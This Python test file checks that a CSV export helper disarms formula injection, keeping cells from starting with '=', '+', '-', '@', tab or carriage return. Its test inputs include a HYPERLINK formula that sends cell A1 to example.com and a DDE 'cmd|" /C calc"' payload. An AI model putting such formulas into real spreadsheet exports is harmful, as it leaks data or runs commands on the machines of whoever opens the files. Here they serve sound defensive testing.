"""No cell of a CSV file begins like a formula, whatever text it comes from, and every other cell is unchanged."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tollway.csv_text import DISARM_MARK, FORMULA_STARTS, csv_cells, csv_line

RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")
"""Of docs/accountants and of OWASP's page on CSV injection, written here again: the table of the code must not shrink with its test."""

texts = st.one_of(
    st.text(),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_STARTS, '"', "'", ","]), st.text()),
)


@given(texts)
@example('=HYPERLINK("https://example.com/?"&A1)')
@example("\t=1+1")
@example("\r\n=1")
def test_no_cell_begins_like_a_formula(text: str) -> None:
    (cell,) = csv_cells([text])
    assert not cell.startswith(RUN_BY_SPREADSHEETS)
    assert cell in (text, DISARM_MARK + text)
    assert (cell == text) == (not text.startswith(FORMULA_STARTS))


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=2, max_size=8))
def test_a_line_has_the_cells_back_when_it_is_read(values: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_line(values), newline=""))
    assert row == csv_cells(values)


@pytest.mark.parametrize("start", RUN_BY_SPREADSHEETS)
def test_a_cell_with_a_formula_is_disarmed_within_its_quotes(start: str) -> None:
    """A spreadsheet removes the quotes of CSV first, so the mark must stand behind them."""
    assert csv_line([start + 'cmd|" /C calc",1', "plain"]).startswith('"' + DISARM_MARK)


def test_none_is_empty_and_numbers_are_their_digits() -> None:
    assert csv_line([None, 12, "0.010000", "", "a,b", 'say "x"']) == ',12,0.010000,,"a,b","say ""x"""\r\n'
    assert csv_cells([-1]) == ["'-1"]
